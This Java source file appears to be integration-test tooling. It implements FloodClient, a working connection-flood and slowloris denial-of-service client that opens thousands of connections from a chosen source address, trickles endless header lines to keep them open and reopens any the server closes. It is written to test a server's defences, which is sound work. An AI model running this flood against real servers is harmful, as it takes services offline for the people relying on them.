package dev.gracekeeper.it;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/**
 * A connection flood as an attacker on the pod network would send it, run as its own process (one
 * process holds at most its descriptor limit of connections, so a flood larger than that needs
 * several):
 *
 * <pre>java -cp target/test-classes dev.gracekeeper.it.FloodClient HOST PORT COUNT SOURCE MODE SECONDS [reopen]</pre>
 *
 * <p>Opens COUNT connections from the address SOURCE to HOST:PORT without waiting for each (within
 * 60 s), then holds them for SECONDS. MODE {@code idle} sends nothing; {@code slowloris} sends the start of a
 * request and then one more header line a second, never the end. With {@code reopen}, a connection
 * the server closes is opened again, so that COUNT stay open from the client's side the whole time:
 * a churn as fast as the server closes. Prints one line a second, {@code opened N
 * connected N open N closed N} (closed: by the server, or failed to connect), and exits 0 when the time is up.
 */
public final class FloodClient {
    private static final byte[] START = "GET /healthz HTTP/1.1\r\nHost: flood\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final long OPENING_BOUND_NANOS = 60_000_000_000L;
    private static final byte[] TRICKLE = "X-Slow: 1\r\n".getBytes(StandardCharsets.US_ASCII);

    private final InetSocketAddress target;
    private final InetAddress source;
    private final boolean slowloris;
    private final boolean reopen;
    private final Selector selector;
    private final Set<SocketChannel> connected = new LinkedHashSet<>();
    private final ByteBuffer sink = ByteBuffer.allocate(4096);
    private long opened;
    private long closedByServer;
    private int open;

    private FloodClient(InetSocketAddress target, InetAddress source, boolean slowloris, boolean reopen)
            throws IOException {
        this.target = target;
        this.reopen = reopen;
        this.source = source;
        this.slowloris = slowloris;
        this.selector = Selector.open();
    }

    public static void main(String[] args) throws Exception {
        if (args.length < 6 || args.length > 7 || !args[4].matches("idle|slowloris")
                || (args.length == 7 && !args[6].equals("reopen"))) {
            System.err.println("usage: FloodClient HOST PORT COUNT SOURCE idle|slowloris SECONDS [reopen]");
            System.exit(2);
        }
        FloodClient c = new FloodClient(new InetSocketAddress(args[0], Integer.parseInt(args[1])),
                InetAddress.getByName(args[3]), args[4].equals("slowloris"), args.length == 7);
        c.run(Integer.parseInt(args[2]), Long.parseLong(args[5]) * 1_000_000_000L);
    }

    private void run(int count, long holdNanos) throws IOException {
        long start = System.nanoTime();
        long nextReport = start + 1_000_000_000L;
        long holdFrom = 0;
        while (holdFrom == 0 || System.nanoTime() - holdFrom < holdNanos) {
            // Open in slices, so the selector keeps up with the connects already under way.
            for (int i = 0; i < 512 && (reopen ? open : opened) < count; i++) connect();
            if (holdFrom == 0 && (opened >= count || System.nanoTime() - start > OPENING_BOUND_NANOS)) {
                holdFrom = System.nanoTime();
            }
            selector.select(10);
            for (SelectionKey k : selector.selectedKeys()) ready(k);
            selector.selectedKeys().clear();
            long now = System.nanoTime();
            if (now - nextReport >= 0) {
                if (slowloris) trickle();
                report();
                nextReport = now + 1_000_000_000L;
            }
        }
        report();
    }

    private void report() {
        System.out.printf("opened %d connected %d open %d closed %d%n", opened, connected.size(), open, closedByServer);
    }

    private void connect() throws IOException {
        SocketChannel ch = SocketChannel.open();
        opened++;
        open++;
        try {
            ch.configureBlocking(false);
            ch.bind(new InetSocketAddress(source, 0));
            if (ch.connect(target)) {
                established(ch);
            } else {
                ch.register(selector, SelectionKey.OP_CONNECT);
            }
        } catch (IOException e) {
            lost(ch);
        }
    }

    private void ready(SelectionKey k) {
        SocketChannel ch = (SocketChannel) k.channel();
        try {
            if (k.isConnectable()) {
                ch.finishConnect();
                established(ch);
            } else if (k.isReadable()) {
                sink.clear();
                if (ch.read(sink) < 0) lost(ch);
            }
        } catch (IOException e) {
            lost(ch);
        }
    }

    private void established(SocketChannel ch) throws IOException {
        connected.add(ch);
        ch.register(selector, SelectionKey.OP_READ);
        if (slowloris) ch.write(ByteBuffer.wrap(START));
    }

    private void lost(SocketChannel ch) {
        closedByServer++;
        open--;
        connected.remove(ch);
        try {
            ch.close();
        } catch (IOException ignored) {
            // already gone
        }
    }

    private void trickle() {
        for (SocketChannel ch : List.copyOf(connected)) {
            try {
                ch.write(ByteBuffer.wrap(TRICKLE));
            } catch (IOException e) {
                lost(ch);
            }
        }
    }
}
